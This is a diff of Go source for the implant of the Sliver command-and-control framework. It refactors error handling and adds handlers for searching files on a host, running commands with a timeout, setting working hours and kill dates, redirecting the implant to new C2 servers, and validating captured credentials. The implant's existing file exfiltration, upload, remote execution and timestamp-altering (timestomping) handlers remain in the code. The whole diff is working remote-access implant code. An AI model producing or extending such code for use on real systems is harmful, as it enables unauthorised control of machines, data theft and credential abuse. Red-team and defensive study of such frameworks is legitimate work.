@@ -23,8 +23,8 @@ import (
 	"bufio"
 	"bytes"
 	"compress/gzip"
+	"context"
 	"errors"
-	"fmt"
 	"io"
 	"io/fs"
 	"os"
@@ -37,7 +37,10 @@ import (
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/credcheck"
 	"github.com/bishopfox/sliver/implant/sliver/handlers/matcher"
+	"github.com/bishopfox/sliver/implant/sliver/limits"
+	"github.com/bishopfox/sliver/implant/sliver/search"
 	"github.com/bishopfox/sliver/implant/sliver/transports"
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
@@ -50,6 +53,9 @@ type RPCResponse func([]byte, error)
 // RPCHandler - Request handler
 type RPCHandler func([]byte, RPCResponse)
 
+// ContextHandler - Request handler that is aborted when its task times out
+type ContextHandler func(context.Context, []byte, RPCResponse)
+
 // SpecialHandler - Handlers that need to interact directly with the transport
 type SpecialHandler func([]byte, *transports.Connection) error
 
@@ -270,16 +276,16 @@ func rmHandler(data []byte, resp RPCResponse) {
 		if rmReq.Recursive {
 			err = os.RemoveAll(target)
 			if err != nil {
-				rm.Response.Err = err.Error()
+				rm.Response = sliverpb.ErrorResponse(err)
 			}
 		} else {
 			err = os.Remove(target)
 			if err != nil {
-				rm.Response.Err = err.Error()
+				rm.Response = sliverpb.ErrorResponse(err)
 			}
 		}
 	} else {
-		rm.Response.Err = err.Error()
+		rm.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(rm)
@@ -299,9 +305,7 @@ func mvHandler(data []byte, resp RPCResponse) {
 	move := &sliverpb.Mv{}
 	err = os.Rename(mvReq.Src, mvReq.Dst)
 	if err != nil {
-		move.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		move.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(move)
@@ -324,9 +328,7 @@ func mkdirHandler(data []byte, resp RPCResponse) {
 
 	err = os.MkdirAll(target, 0700)
 	if err != nil {
-		mkdir.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		mkdir.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(mkdir)
 	resp(data, err)
@@ -373,9 +375,7 @@ func pwdHandler(data []byte, resp RPCResponse) {
 	dir, err := os.Getwd()
 	pwd := &sliverpb.Pwd{Path: dir}
 	if err != nil {
-		pwd.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		pwd.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(pwd)
@@ -430,6 +430,11 @@ func downloadHandler(data []byte, resp RPCResponse) {
 		return
 	}
 	target, _ := filepath.Abs(downloadReq.Path)
+	if 0 < downloadReq.Stop || downloadReq.HashOnly {
+		data, err = proto.Marshal(downloadChunk(downloadReq, target))
+		resp(data, err)
+		return
+	}
 
 	if pathIsDirectory(target) {
 		// Even if the implant is running on Windows, Go can deal with "/" as a path separator
@@ -451,9 +456,7 @@ func downloadHandler(data []byte, resp RPCResponse) {
 			//{{end}}
 		}
 		download = &sliverpb.Download{Path: target, Exists: false, ReadFiles: int32(readFiles), UnreadableFiles: int32(unreadableFiles)}
-		download.Response = &commonpb.Response{
-			Err: fmt.Sprintf("%v", err),
-		}
+		download.Response = sliverpb.ErrorResponse(err)
 	} else {
 		gzipData := bytes.NewBuffer([]byte{})
 		gzipWrite(gzipData, rawData)
@@ -492,14 +495,18 @@ func uploadHandler(data []byte, resp RPCResponse) {
 		resp([]byte{}, err)
 	}
 
+	if uploadReq.Chunked {
+		data, err = proto.Marshal(uploadChunk(uploadReq, uploadPath))
+		resp(data, err)
+		return
+	}
+
 	// Process Upload
 	upload := &sliverpb.Upload{Path: uploadPath}
 
 	f, err := os.Create(uploadPath)
 	if err != nil {
-		upload.Response = &commonpb.Response{
-			Err: fmt.Sprintf("%v", err),
-		}
+		upload.Response = sliverpb.ErrorResponse(err)
 
 	} else {
 		// Create file, write data to file system
@@ -513,9 +520,7 @@ func uploadHandler(data []byte, resp RPCResponse) {
 		}
 		// Check for decode errors
 		if err != nil {
-			upload.Response = &commonpb.Response{
-				Err: fmt.Sprintf("%v", err),
-			}
+			upload.Response = sliverpb.ErrorResponse(err)
 		} else {
 			f.Write(uploadData)
 		}
@@ -525,7 +530,40 @@ func uploadHandler(data []byte, resp RPCResponse) {
 	resp(data, err)
 }
 
+func searchHandler(data []byte, resp RPCResponse) {
+	searchContextHandler(context.Background(), data, resp)
+}
+
+func searchContextHandler(ctx context.Context, data []byte, resp RPCResponse) {
+	searchReq := &sliverpb.SearchReq{}
+	err := proto.Unmarshal(data, searchReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	var send search.StreamFunc
+	if searchReq.Stream {
+		send = func(matches []*sliverpb.SearchMatch) bool {
+			data, _ := proto.Marshal(&sliverpb.SearchMatches{SearchID: searchReq.SearchID, Matches: matches})
+			return stream(ctx, &sliverpb.Envelope{Type: sliverpb.MsgSearchMatches, Data: data})
+		}
+	}
+	result, err := search.Search(ctx, searchReq, send)
+	if result == nil {
+		result = &sliverpb.Search{Path: searchReq.Path}
+	}
+	result.Response = sliverpb.ErrorResponse(err)
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
 func executeHandler(data []byte, resp RPCResponse) {
+	executeContextHandler(context.Background(), data, resp)
+}
+
+func executeContextHandler(ctx context.Context, data []byte, resp RPCResponse) {
 	var (
 		err       error
 		stdErr    io.Writer
@@ -545,14 +583,16 @@ func executeHandler(data []byte, resp RPCResponse) {
 	execResp := &sliverpb.Execute{}
 	exePath, err := expandPath(execReq.Path)
 	if err != nil {
-		execResp.Response = &commonpb.Response{
-			Err: fmt.Sprintf("%s", err),
-		}
+		execResp.Response = sliverpb.ErrorResponse(err)
 		proto.Marshal(execResp)
 		resp(data, err)
 		return
 	}
+	// Only commands we wait on are killed on timeout, background commands outlive the task
 	cmd := exec.Command(exePath, execReq.Args...)
+	if execReq.Output {
+		cmd = exec.CommandContext(ctx, exePath, execReq.Args...)
+	}
 
 	if execReq.Output {
 		stdOutBuff := new(bytes.Buffer)
@@ -562,9 +602,7 @@ func executeHandler(data []byte, resp RPCResponse) {
 		if execReq.Stderr != "" {
 			stdErrFile, err := os.Create(execReq.Stderr)
 			if err != nil {
-				execResp.Response = &commonpb.Response{
-					Err: fmt.Sprintf("%s", err),
-				}
+				execResp.Response = sliverpb.ErrorResponse(err)
 				proto.Marshal(execResp)
 				resp(data, err)
 				return
@@ -576,9 +614,7 @@ func executeHandler(data []byte, resp RPCResponse) {
 		if execReq.Stdout != "" {
 			stdOutFile, err := os.Create(execReq.Stdout)
 			if err != nil {
-				execResp.Response = &commonpb.Response{
-					Err: fmt.Sprintf("%s", err),
-				}
+				execResp.Response = sliverpb.ErrorResponse(err)
 				proto.Marshal(execResp)
 				resp(data, err)
 				return
@@ -598,9 +634,7 @@ func executeHandler(data []byte, resp RPCResponse) {
 			if exiterr, ok := err.(*exec.ExitError); ok {
 				execResp.Status = uint32(exiterr.ExitCode())
 			} else {
-				execResp.Response = &commonpb.Response{
-					Err: fmt.Sprintf("%s", err),
-				}
+				execResp.Response = sliverpb.ErrorResponse(err)
 			}
 		}
 		if errWriter != nil {
@@ -617,9 +651,7 @@ func executeHandler(data []byte, resp RPCResponse) {
 	} else {
 		err = cmd.Start()
 		if err != nil {
-			execResp.Response = &commonpb.Response{
-				Err: fmt.Sprintf("%s", err),
-			}
+			execResp.Response = sliverpb.ErrorResponse(err)
 		}
 
 		go func() {
@@ -682,7 +714,7 @@ func setEnvHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		setEnvResp.Response.Err = err.Error()
+		setEnvResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(setEnvResp)
 	resp(data, err)
@@ -703,7 +735,7 @@ func unsetEnvHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		unsetEnvResp.Response.Err = err.Error()
+		unsetEnvResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(unsetEnvResp)
 	resp(data, err)
@@ -731,11 +763,54 @@ func reconfigureHandler(data []byte, resp RPCResponse) {
 	}
 	// {{end}}
 
-	reconfigResp := &sliverpb.Reconfigure{}
+	reconfigResp := &sliverpb.Reconfigure{Response: &commonpb.Response{}}
+	if reconfigReq.ClearWorkingHours {
+		err = limits.SetWorkingHours("")
+	} else if reconfigReq.WorkingHours != "" {
+		err = limits.SetWorkingHours(reconfigReq.WorkingHours)
+	}
+	if err == nil && reconfigReq.ClearKillDate {
+		err = limits.SetKillDate("")
+	} else if err == nil && reconfigReq.KillDate != "" {
+		err = limits.SetKillDate(reconfigReq.KillDate)
+	}
+	if err != nil {
+		reconfigResp.Response = sliverpb.ErrorResponse(err)
+	}
+	reconfigResp.WorkingHours = limits.WorkingHours()
+	reconfigResp.KillDate = limits.KillDate()
 	data, err = proto.Marshal(reconfigResp)
 	resp(data, err)
 }
 
+func redirectHandler(data []byte, resp RPCResponse) {
+	redirectReq := &sliverpb.RedirectReq{}
+	err := proto.Unmarshal(data, redirectReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v\n", err)
+		// {{end}}
+		return
+	}
+	redirectResp := &sliverpb.Redirect{Response: &commonpb.Response{}}
+	if !redirectReq.Clear && len(redirectReq.C2S) == 0 {
+		err = errors.New("no c2s")
+	} else if redirectReq.Clear {
+		err = transports.Redirect(nil)
+	} else {
+		err = transports.Redirect(redirectReq.C2S)
+	}
+	if err != nil {
+		redirectResp.Response = sliverpb.ErrorResponse(err)
+	}
+	redirectResp.C2S = transports.RedirectC2s()
+	data, err = proto.Marshal(redirectResp)
+	resp(data, err)
+	if redirectResp.Response.Err == "" {
+		transports.Reconnect()
+	}
+}
+
 // ---------------- Data Encoders ----------------
 
 func gzipWrite(w io.Writer, data []byte) error {
@@ -994,13 +1069,28 @@ func chtimesHandler(data []byte, resp RPCResponse) {
 
 		err = os.Chtimes(target, atime, mtime)
 		if err != nil {
-			chtimes.Response.Err = err.Error()
+			chtimes.Response = sliverpb.ErrorResponse(err)
 		}
 
 	} else {
-		chtimes.Response.Err = err.Error()
+		chtimes.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(chtimes)
 	resp(data, err)
 }
+
+func validateCredsHandler(data []byte, resp RPCResponse) {
+	validateReq := &sliverpb.ValidateCredsReq{}
+	err := proto.Unmarshal(data, validateReq)
+	if err != nil {
+		return
+	}
+	validate, err := credcheck.Validate(validateReq)
+	if validate == nil {
+		validate = &sliverpb.ValidateCreds{}
+	}
+	validate.Response = sliverpb.ErrorResponse(err)
+	data, err = proto.Marshal(validate)
+	resp(data, err)
+}